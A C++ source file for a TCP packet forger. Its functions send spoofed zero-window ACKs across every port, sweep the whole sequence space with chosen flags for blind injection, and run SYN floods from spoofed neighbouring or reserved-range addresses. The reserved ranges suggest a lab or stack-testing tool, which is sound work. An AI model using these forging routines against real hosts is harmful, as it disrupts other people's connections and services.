#include "CForger.h"

#include <utility>

#include "CSenderPath.h"

using packetmaker::CTcp;

namespace
{

constexpr std::uint32_t s_dwHalf = 0x80000000U;
constexpr std::uint8_t s_bTcp = 6;
constexpr std::uint64_t s_qwAllNumbers = std::uint64_t{1} << 32;
constexpr std::uint32_t s_dwLastPort = 65535;

// Of networks that nobody uses: RFC 2544, section C.2.2, and RFC 3849.
const char* const s_szFar4 = "198.18.";
const char* const s_szFar6 = "2001:db8:";

bool Is6(const std::string& address)
{
    return address.find(':') != std::string::npos;
}

}  // namespace

CForger::CForger(CSenderPath& path, CForgedEnd from, CForgedEnd to, std::uint32_t seed)
    : m_Path(path), m_From(std::move(from)), m_To(std::move(to)), m_Random(seed)
{
}

void CForger::ShutWindow(unsigned int pairs)
{
    CTcp segment;
    segment.m_wSource = m_From.m_wPort;
    segment.m_wDestination = m_To.m_wPort;
    segment.m_bFlags = packetmaker::Ack;
    segment.m_wWindow = 0;
    for (unsigned int i = 0; i < pairs; ++i) {
        segment.m_dwSequence = static_cast<std::uint32_t>(m_Random());
        for (const std::uint32_t off : {std::uint32_t{0}, s_dwHalf + 1}) {
            segment.m_dwSequence += off;
            segment.m_dwAck = static_cast<std::uint32_t>(m_Random());
            Send(m_From.m_strAddress, segment);
        }
    }
}

void CForger::ShutWindowsOfAllPorts()
{
    for (std::uint32_t port = 1; port <= s_dwLastPort; ++port) {
        m_To.m_wPort = static_cast<std::uint16_t>(port);
        ShutWindow(1);
    }
}

void CForger::SendEverywhere(std::uint8_t flags, std::uint32_t step, std::size_t bytes)
{
    CTcp segment;
    segment.m_wSource = m_From.m_wPort;
    segment.m_wDestination = m_To.m_wPort;
    segment.m_bFlags = flags;
    segment.m_Data.assign(bytes, 'X');
    for (std::uint64_t sequence = 0; sequence < s_qwAllNumbers; sequence += step) {
        segment.m_dwSequence = static_cast<std::uint32_t>(sequence);
        segment.m_dwAck = static_cast<std::uint32_t>(m_Random());
        Send(m_From.m_strAddress, segment);
    }
}

void CForger::Request(unsigned int count)
{
    CTcp segment;
    segment.m_wDestination = m_To.m_wPort;
    segment.m_bFlags = packetmaker::Syn;
    segment.m_Options = {2, 4, 5, 0x50};  // maximum segment size, 1360
    for (unsigned int i = 0; i < count; ++i) {
        segment.m_wSource = static_cast<std::uint16_t>(1024 + m_Random() % 60000);
        segment.m_dwSequence = static_cast<std::uint32_t>(m_Random());
        Send(GetStray(i % 2 == 0), segment);
    }
}

std::string CForger::GetStray(bool near)
{
    const auto number = static_cast<std::uint32_t>(m_Random());
    const std::string low = std::to_string(3 + number % 250);
    if (Is6(m_To.m_strAddress)) {
        const std::string start = near ? m_To.m_strAddress.substr(0, m_To.m_strAddress.find("::")) : s_szFar6;
        return start + (near ? "::1:" : ":") + low;
    }
    return near ? m_To.m_strAddress.substr(0, m_To.m_strAddress.rfind('.') + 1) + low
                : s_szFar4 + std::to_string(number >> 8 & 0xFF) + "." + low;
}

void CForger::Send(const std::string& from, const CTcp& segment)
{
    if (Is6(m_To.m_strAddress)) {
        const packetmaker::CHeader6 header{from.c_str(), m_To.m_strAddress.c_str(), s_bTcp};
        m_Path.Send(packetmaker::Make6(header, packetmaker::Tcp6(header, segment)));
        return;
    }
    const packetmaker::CHeader4 header{from.c_str(), m_To.m_strAddress.c_str(), s_bTcp};
    m_Path.Send(packetmaker::Make4(header, packetmaker::Tcp4(header, segment)));
}
